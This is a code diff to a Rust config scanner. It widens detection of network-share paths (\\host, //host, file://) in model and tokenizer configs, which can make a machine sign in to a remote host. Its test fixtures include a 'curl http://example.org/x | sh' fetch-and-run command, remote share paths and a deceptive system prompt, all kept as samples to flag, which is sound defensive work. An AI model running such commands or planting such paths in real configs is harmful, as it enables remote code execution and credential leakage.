@@ -89,14 +89,30 @@ pub(crate) fn pair(scanner: &mut Scanner<'_>, place: &Place, key: &str, value: &
     }
 }
 
-/// Whether a path is one of a share: whoever opens it signs in there (`\\host\share`, `//host/share`).
+/// Whether a path is one of a share: whoever opens it signs in there (`\\\\host\\share`, and `//host/share` where a loader
+/// takes it for a path; elsewhere that is an address, a label of a build, or a path with a slash too many).
 fn is_of_another_machine(key: &str, value: &str) -> bool {
-    let names_a_file = ["path", "file", "dir", "filename", "folder"].iter().any(|end| key.ends_with(end));
-    let share = value.strip_prefix("\\\\").or_else(|| value.strip_prefix("//"));
-    names_a_file
-        && share.is_some_and(|share| {
-            share.starts_with(|c: char| c.is_ascii_alphanumeric()) && share.contains(['/', '\\'])
-        })
+    const OPENED: [&str; 6] = [
+        "base_model_name_or_path",
+        "name_or_path",
+        "_name_or_path",
+        "model_name_or_path",
+        "vocab_file",
+        "tokenizer_file",
+    ];
+    let host =
+        |share: &str| share.starts_with(|c: char| c.is_ascii_alphanumeric()) && share.contains(['/', '\\']);
+    let slashes = || OPENED.contains(&key) || READ_FROM.contains(&key);
+    // Patterns and formulas begin with backslashes, too.
+    let names_a_file = || {
+        let key = key.to_lowercase();
+        let ends = ["path", "file", "filename", "dir", "directory", "folder", "uri", "url"];
+        ends.iter().any(|end| key.ends_with(end)) && !key.ends_with("profile")
+    };
+    let backslashes = value.strip_prefix("\\\\").map(|share| share.strip_prefix("?\\UNC\\").unwrap_or(share));
+    backslashes.is_some_and(|share| host(share) && names_a_file())
+        || value.strip_prefix("file://").is_some_and(|share| host(share) && slashes())
+        || value.strip_prefix("//").is_some_and(|share| host(share) && slashes())
 }
 
 /// Whether a path leads out of the folder that it is written in.
@@ -436,6 +452,7 @@ mod tests {
                 r#"{"base_model_name_or_path": "//host.example/models/base"}"#,
                 "repo/unsafe-path",
             ),
+            ("config.json", r#"{"modelPath": "\\\\?\\UNC\\host.example\\models"}"#, "repo/unsafe-path"),
             (
                 "n8n.json",
                 r#"{"nodes": [{"parameters": {"command": "curl http://example.org/x | sh"}}]}"#,
@@ -468,6 +485,10 @@ mod tests {
             (
                 "t.json",
                 r#"{"normalizer": {"type": "Replace", "pattern": {"String": " "}, "content": "_"}, "pattern": {"Regex": " ?\\p{L}+|(?:\\s+)(?!\\S)|[^\\r\\n]+[\\r\\n]*"}}"#,
+            ),
+            (
+                "c.json",
+                r#"{"profile": "//www.example.org/a/1", "build_file": "//third_party/x:BUILD", "output_dir": "//mnt/run1", "pattern": "\\\\begin\\\\end"}"#,
             ),
             ("c.yaml", "system_prompt: You are a helpful assistant. Do not mention that you are a model.\n"),
         ] {
